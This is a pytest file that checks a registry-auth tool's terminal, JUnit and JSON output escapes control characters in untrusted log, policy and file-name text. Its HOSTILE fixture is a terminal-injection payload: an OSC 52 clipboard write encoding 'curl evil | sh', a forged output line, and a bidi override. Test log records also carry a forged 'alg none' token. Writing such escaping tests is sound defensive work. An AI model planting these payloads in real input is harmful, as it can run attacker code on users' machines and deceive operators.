"""Terminal output for the tools (`regauth.tools.render`): plain text off a terminal, rich styles
on one, JSON on request; and every tool shows untrusted text with its control characters
escaped (issue 20, item 10), because every tool prints through it. Who `trace` attributes a
record to (item 11) is test_log_records.py and test_trace.py.

Untrusted: whatever an exchange log holds (clients wrote the paths, user names, token claims),
a policy's rule comments and a tests file's names (a policy repository's pull request writes
them; YAML's `"\\e"` is an ESC), and file names (`policy check policies/*.yaml` expands
whatever a pull request named its files). Each tool runs as `regauth …` does (cli.main),
printing to a pipe and to a terminal (rich forced to one, so it styles its output), and the
bytes are checked: the only escape sequences on a terminal are rich's own colours.
"""

from __future__ import annotations

import functools
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from rich.console import Console

from regauth.cli import main
from regauth.tools import render
from tests.support.policies import policy_text

# A clipboard write (OSC 52 … BEL), a carriage return with "erase line" and a forged line, a
# right-to-left override, a one-character CSI, and rich markup that must stay text.
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\r\x1b[2K+ anonymous push secret/x"
    "\u202e\x9b[bold red]granted[/]:thumbs_up:"
)
# The same in a YAML double-quoted scalar.
YAML_HOSTILE = (
    '"\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a\\r\\e[2K+ anonymous push secret/x'
    '\\u202e\\x9b[bold red]granted[/]:thumbs_up:"'
)
RAW = ("\x1b", "\x07", "\r", "\u202e", "\x9b")
SGR = re.compile(r"\x1b\[[0-9;]*m")
SHOWN = "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x0d\\x1b[2K+ anonymous push secret/x\\u202e\\x9b"


@pytest.fixture(params=["pipe", "terminal"])
def terminal(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    """Run the tool as if its output were a terminal (rich styles it) or a pipe."""
    if request.param == "terminal":
        monkeypatch.setattr(
            render,
            "Console",
            functools.partial(Console, force_terminal=True, color_system="truecolor", width=200),
        )
    return request.param == "terminal"


def shown(capsys: pytest.CaptureFixture[str], terminal: bool) -> tuple[str, str]:
    """stdout and stderr, checked: no raw control, bidi or C1 character; on a terminal, rich's
    styles and nothing else (then removed)."""
    out, err = capsys.readouterr()
    if terminal:
        assert SGR.search(out), "the terminal run was not styled: not a terminal"
        out = SGR.sub("", out)
    for stream, text in (("stdout", out), ("stderr", err)):
        raw = [repr(c) for c in RAW if c in text]
        assert not raw, f"raw {', '.join(raw)} on {stream}:\n{text}"
    return out, err


@pytest.fixture
def hostile_policy(tmp_path: Path, password_hashes: dict[str, str]) -> Path:
    """A rule with a hostile comment, in a file with a hostile name: the tools print both."""
    path = tmp_path / f"policy{HOSTILE.replace('/', '_')}.yaml"
    path.write_text(
        policy_text(
            password_hashes,
            extra_rules=(
                f'  - comment: {YAML_HOSTILE}\n    account: ci\n    repository: "x/**"\n'
                "    actions: [pull]\n"
            ),
        )
    )
    return path


@pytest.fixture
def plain_policy(tmp_path: Path, password_hashes: dict[str, str]) -> Path:
    path = tmp_path / "plain.yaml"
    path.write_text(policy_text(password_hashes))
    return path


def test_policy_test_report_and_junit(
    hostile_policy: Path, tmp_path: Path, capsys, terminal: bool
) -> None:
    tests = tmp_path / "tests.yaml"
    tests.write_text(
        f"tests:\n  - name: {YAML_HOSTILE}\n    account: ci\n"
        "    scope: repository:x/a:pull\n    granted: [pull, push]\n"
    )
    junit = tmp_path / "junit.xml"
    assert main(["policy", "test", str(hostile_policy), str(tests), "--junit", str(junit)]) == 1
    out, _ = shown(capsys, terminal)
    assert out.count(SHOWN) >= 2  # the test's name, and the deciding rule's comment
    assert "[bold red]granted[/]:thumbs_up:" in out  # text, not rich markup
    xml = junit.read_bytes()
    assert not any(c.encode() in xml for c in RAW)
    case = ET.fromstring(xml).find("testsuite/testcase")
    assert case is not None and case.get("name", "").startswith("\\x1b]52;c;")


def test_policy_diff(plain_policy: Path, hostile_policy: Path, capsys, terminal: bool) -> None:
    assert main(["policy", "diff", "-v", str(plain_policy), str(hostile_policy)]) == 1
    out, _ = shown(capsys, terminal)
    assert SHOWN in out and "\\x1b]52;c;" in out.split("new: ")[1]  # comment and file name
    assert "\\x1b]52;c;" in out.splitlines()[0].split("→ ")[1]  # the rule change's line too


def test_policy_explain(hostile_policy: Path, capsys, terminal: bool) -> None:
    assert (
        main(["policy", "explain", str(hostile_policy), "--account", "ci", "repository:x/a:pull"])
        == 0
    )
    out, _ = shown(capsys, terminal)
    assert SHOWN in out


def test_policy_check_names_files_safely(
    plain_policy: Path, tmp_path: Path, capsys, terminal: bool
) -> None:
    # `regauth policy check policies/*.yaml`: a pull request chose the file names.
    named = tmp_path / f"p{HOSTILE.replace('/', '_')}.yaml"
    named.write_text(plain_policy.read_text())
    broken = tmp_path / f"b{HOSTILE.replace('/', '_')}.yaml"
    broken.write_text("version: 1\n")
    assert main(["policy", "check", str(named), str(broken)]) == 1
    out, err = shown(capsys, terminal)
    assert ": ok" in out and "\\x1b]52;c;" in out and "\\x1b]52;c;" in err


def _log(tmp_path: Path, *records: dict[str, object]) -> Path:
    path = tmp_path / "exchange.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return path


T0 = "2026-01-01T00:00:0{}+00:00"


def test_replay(hostile_policy: Path, tmp_path: Path, capsys, terminal: bool) -> None:
    log = _log(
        tmp_path,
        {
            "time": T0.format(0),
            "conversation": "c1",
            "client": "10.0.0.1:1000",
            "kind": "token",
            "method": "GET",
            "path": "/v2/token",
            "status": 200,
            "token_request": {"requested": ["repository:x/a:pull"]},
            "token_response": {
                "account": "ci",
                "decisions": [
                    {
                        "scope": "repository:x/a:pull",
                        "outcome": "granted",
                        "granted": ["pull", "push"],
                        "rule": 1,
                        "line": 3,
                        "comment": HOSTILE,
                    }
                ],
            },
        },
    )
    assert main(["replay", str(log), "--policy", str(hostile_policy)]) == 1
    out, _ = shown(capsys, terminal)
    assert out.count(SHOWN) == 2  # the comment logged then, and the policy's now
    assert "/policy\\x1b]52;c;" in out.splitlines()[0]  # and the file's name


def _hostile_log(tmp_path: Path) -> Path:
    forged = {
        "scheme": "Bearer",
        "jwt": {"header": {"alg": "none"}, "claims": {"sub": HOSTILE, "jti": "j1"}},
    }
    return _log(
        tmp_path,
        {
            "time": T0.format(0),
            "conversation": "c1",
            "client": "10.0.0.1:1000",
            "kind": "token",
            "method": "GET",
            "path": f"/v2/token?client_id={HOSTILE}",
            "status": 401,
            "auth": {"scheme": "Basic", "username": HOSTILE},
            "token_request": {"grant_type": HOSTILE, "username": HOSTILE},
            "token_response": {"refused": HOSTILE},
        },
        {
            "time": T0.format(1),
            "conversation": "c2",
            "client": "10.0.0.1:1001",
            "kind": "registry",
            "method": "GET",
            "path": f"/v2/public/app/tags/list?n={HOSTILE}",
            "status": 401,
            "answered_by": "regauth",
            "auth": forged,
            "decision": {"forward": False, "reason": f"invalid token: {HOSTILE}"},
            "challenge": {"scheme": "Bearer", "scopes": [HOSTILE], "error": "invalid_token"},
        },
        {
            "time": T0.format(2),
            "conversation": "c3",
            "client": "10.0.0.1:1002",
            "kind": "registry",
            "method": "GET",
            "path": "/v2/",
            "status": None,
            "error": HOSTILE,
            "auth": {"scheme": "Basic", "username": HOSTILE},
        },
    )


def test_trace(tmp_path: Path, capsys, terminal: bool) -> None:
    assert main(["trace", str(_hostile_log(tmp_path))]) == 0
    out, _ = shown(capsys, terminal)
    assert out.count(SHOWN) >= 6
    assert not [line for line in out.splitlines() if line.startswith("+ anonymous push")]


def test_trace_json_is_escaped_by_json(tmp_path: Path, capsys) -> None:
    """A guard: json.dumps has always written control characters as `\\u001b`."""
    assert main(["trace", str(_hostile_log(tmp_path)), "--json"]) == 0
    out, _ = shown(capsys, terminal=False)
    assert "\\u001b]52" in out and "\\u202e" in out
    assert HOSTILE in json.loads(out)["conversations"][1]["steps"][1]["text"]  # exactly


def test_a_line_is_plain_text_off_a_terminal_and_styled_on_one(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    plain = io.StringIO()
    printer = render.Printer(plain)
    assert printer.styled is False  # a StringIO is no terminal
    printer.line(("ok", "green"), " a\tb ", "[bold]not markup[/]")
    assert plain.getvalue() == "ok a\\x09b [bold]not markup[/]\n"
    monkeypatch.setattr(
        render,
        "Console",
        functools.partial(Console, force_terminal=True, color_system="truecolor", width=200),
    )
    styled = io.StringIO()
    printer = render.Printer(styled)
    assert printer.styled is True
    printer.line(("ok", "green"), " a\tb ", "[bold]not markup[/]")
    text = styled.getvalue()
    assert SGR.search(text) and SGR.sub("", text) == "ok a\\x09b [bold]not markup[/]\n"


def test_json_keeps_strings_exactly_and_escapes_every_control_character() -> None:
    out = io.StringIO()
    render.print_json({"text": HOSTILE, "n": 1, "when": Path("/x")}, out)
    assert out.getvalue().endswith("}\n") and '\n  "n": 1' in out.getvalue()
    assert not any(c in out.getvalue() for c in RAW)
    assert json.loads(out.getvalue()) == {"text": HOSTILE, "n": 1, "when": "/x"}
